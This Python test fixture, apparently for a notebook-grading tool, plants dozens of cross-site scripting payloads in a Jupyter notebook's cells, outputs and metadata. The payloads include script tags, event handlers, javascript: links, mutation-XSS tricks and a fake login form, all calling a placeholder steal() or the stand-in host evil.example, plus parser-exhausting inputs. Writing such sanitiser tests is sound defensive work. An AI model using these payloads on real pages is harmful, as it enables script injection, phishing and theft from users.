"""What a student could put into a notebook to reach whoever opens a page of it. Every attempt would call
steal().
"""

from base64 import b64encode

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

HTML = [
    "<script>steal()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=steal()><script>steal()</script><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><animate onbegin=steal() attributeName=x></svg>",
    "<iframe src='javascript:steal()'></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='data:text/html,<script>steal()</script>'></object><embed src='https://evil.example'>",
    "<a href='javascript:steal()'>click</a>",
    "<a href=' \x01java\nscript:steal()'>click</a>",
    "<a href='data:text/html,<script>steal()</script>'>click</a>",
    "<a href='evil.html'>click</a><a href='//evil.example'>click</a><a href='/formgrader/x'>click</a>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>cover</div>",
    "<style>body { display: none } @import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=password autofocus onfocus=steal()><button>Log "
    "in</button></form>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<video src=x onerror=steal()></video><audio src='https://evil.example/x.mp3' autoplay></audio>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<template><script>steal()</script></template>",
    "<marquee onstart=steal()>x</marquee>",
    "</div></section></main><script>steal()</script>",
]

MARKDOWN = [
    "[click](javascript:steal())",
    "[click](<java\nscript:steal()>)",
    "![x](https://evil.example/pixel.png)",
    "![x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    '![x](x "onerror=steal()")',
    "<javascript:steal()>",
    "[a]: javascript:steal()\n\n[a]",
    r"$\text{<img src=x onerror=steal()>}$",
    r"$\href{javascript:steal()}{x}$ $\style{position:fixed}{x}$ $\class{items}{x}$",
    "$</span><script>steal()</script>$",
    r"\begin{x}<script>steal()</script>\end{x}",
    '<span class="tex">&lt;script&gt;steal()&lt;/script&gt;</span>',
    "```mermaid\nclick A call steal()\n<script>steal()</script>\n```",
    '```"><script>steal()</script>\nx\n```',
    "# <img src=x onerror=steal()>",
    "> " * 5000,
    "[" * 40_000,
    r"$\newcommand{\a}{\a\a\a}\a$",
]

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'><script>steal()</script></svg>"
EVERY_TYPE = {
    "text/html": "<script>steal()</script>hello",
    "text/markdown": "<script>steal()</script>",
    "text/latex": "$<script>steal()</script>$",
    "application/javascript": "steal()",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    "application/pdf": "x",
    "image/svg+xml": SVG,
    "image/png": '"><script>steal()</script>',
    "text/plain": "<script>steal()</script>",
}


def shown(data: dict, kind: str = "display_data", **more) -> dict:
    return {"output_type": kind, "data": data, "metadata": {}, **more}


OUTPUTS = [
    *(shown({"text/html": content}) for content in HTML),
    *(shown({"text/markdown": content}) for content in MARKDOWN),
    *(shown({kind: content}) for kind, content in EVERY_TYPE.items()),
    shown(EVERY_TYPE),
    shown({"text/html": ["<scr", "ipt>steal()</script>"]}),
    shown({"text/html": 5, "image/png": {"a": 1}, "text/plain": None}),
    shown({"image/png": b64encode(b"<script>steal()</script>").decode()}),
    shown({"text/plain": "x"}, "execute_result", execution_count="<script>steal()</script>"),
    shown({"text/html": "x"})
    | {"metadata": {"text/html": {"isolated": True}, "image/png": {"width": "1 onerror=steal()"}}},
    {"output_type": "stream", "name": "stdout'><script>steal()</script>", "text": "<script>steal()</script>"},
    {
        "output_type": "error",
        "ename": "<script>",
        "evalue": "steal()",
        "traceback": ["\x1b[31m<script>steal()</script>", 5],
    },
    {"output_type": "error"},
    {"output_type": "<script>steal()</script>"},
    {},
]


def spoil(nb) -> None:
    """Put all of it into a notebook: text, code, outputs and metadata."""
    nb.cells.insert(0, new_markdown_cell("# hello from a student <script>steal()</script>"))
    nb.cells += [new_markdown_cell(content) for content in (*HTML, *MARKDOWN)]
    nb.cells += [new_raw_cell(content, metadata={"raw_mimetype": "text/html"}) for content in HTML]
    nb.cells += [new_code_cell(f"</pre></div>{content}") for content in HTML]
    sound = [output for output in OUTPUTS if _is_sound(output)]
    nb.cells.append(new_code_cell("display()", outputs=[nbformat.from_dict(output) for output in sound]))
    nb.cells[-1].metadata["magics_language"] = '"><script>steal()</script>'
    nb.metadata["language_info"] = {"name": '"><script>steal()</script>', "pygments_lexer": "<script>"}
    nb.metadata["title"] = "</title><script>steal()</script>"
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"x": "</script><script>steal()</script>"}
    }


def _is_sound(output: dict) -> bool:
    try:
        nbformat.validate(nbformat.from_dict(output), ref="output", version=4)
    except nbformat.ValidationError:
        return False
    return True
